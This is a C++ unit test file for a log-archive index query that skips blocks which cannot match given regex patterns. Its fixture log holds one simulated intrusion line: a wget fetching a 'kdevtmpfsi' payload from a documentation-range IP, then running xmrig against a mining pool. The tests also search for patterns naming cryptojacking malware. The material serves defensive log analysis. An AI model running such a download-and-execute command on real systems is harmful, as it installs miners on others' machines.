#include "outputs/archive_index_query.h"

#include <gtest/gtest.h>

#include "tests/testing/temp_dir.h"

namespace konseki::outputs {
namespace {

// Two blocks: one of ordinary sshd lines, one with an intrusion's lines.
class IndexQueryTest : public ::testing::Test {
 protected:
  void SetUp() override {
    const std::string path =
        tmp_.Write("2025-12-01.log",
                   "2025-12-01T00:00:00.000000Z 192.0.2.1 <38>sshd[1]: Failed password "
                   "for root from 10.1.2.3 port 22\n"
                   "2025-12-01T00:00:01.000000Z 192.0.2.1 <38>sshd[2]: Accepted "
                   "publickey for bob from 10.1.2.4 port 22\n"
                   "2025-12-01T00:00:02.000000Z 192.0.2.1 <38>bash: wget "
                   "http://203.0.113.77/kdevtmpfsi; ./xmrig --pool stratum\n");
    ASSERT_TRUE(ArchiveIndex::Build(path, 150).ok());
    auto idx = ArchiveIndex::Load(path);
    ASSERT_TRUE(idx.ok()) << idx.status().ToString();
    index_ = std::move(idx).value();
    ASSERT_EQ(index_.blocks().size(), 2u);
  }
  // Which of the two blocks pass.
  std::pair<bool, bool> Pass(const std::vector<std::string>& patterns, bool caseless = false) {
    auto q = IndexQuery::Create(patterns, caseless);
    EXPECT_TRUE(q->filters()) << q->why_not();
    return {q->MayMatch(index_.blocks()[0]), q->MayMatch(index_.blocks()[1])};
  }
  konseki::testing::TempDir tmp_;
  ArchiveIndex index_;
};

TEST_F(IndexQueryTest, BlocksWithoutARequiredTextAreSkipped) {
  EXPECT_EQ(Pass({"Failed password"}), std::make_pair(true, false));
  EXPECT_EQ(Pass({"kdevtmpfsi"}), std::make_pair(false, true));
  EXPECT_EQ(Pass({"KDEVTMPFSI"}, true), std::make_pair(false, true));
  EXPECT_EQ(Pass({"203\\.0\\.113\\.77"}), std::make_pair(false, true));
  EXPECT_EQ(Pass({"no such text"}), std::make_pair(false, false));
}

TEST_F(IndexQueryTest, AlternativesAndConjunctions) {
  EXPECT_EQ(Pass({"kinsing|kdevtmpfsi"}), std::make_pair(false, true));
  EXPECT_EQ(Pass({"(kinsing|xmrig) --pool"}), std::make_pair(false, true));
  EXPECT_EQ(Pass({"xmrig.*nicehash"}), std::make_pair(false, false));  // both needed
  EXPECT_EQ(Pass({"Accepted (password|publickey) for bob", "kinsing"}),
            std::make_pair(true, false));
  EXPECT_EQ(Pass({"no such text", "xmrig"}), std::make_pair(false, true));  // any pattern
}

TEST_F(IndexQueryTest, PatternsWithoutRequiredTextOrThatRe2CannotReadScanEverything) {
  for (const std::vector<std::string>& p :
       std::vector<std::vector<std::string>>{{"kinsing", "[0-9]+"}, {"a|bc"}, {"x\\e"}, {}}) {
    auto q = IndexQuery::Create(p, false);
    EXPECT_FALSE(q->filters()) << (p.empty() ? "" : p.back());
    EXPECT_FALSE(q->why_not().empty());
    EXPECT_TRUE(q->MayMatch(index_.blocks()[0]));
  }
  EXPECT_NE(IndexQuery::Create({"kinsing", "[0-9]+"}, false)->why_not().find("[0-9]+"),
            std::string::npos);
}

}  // namespace
}  // namespace konseki::outputs
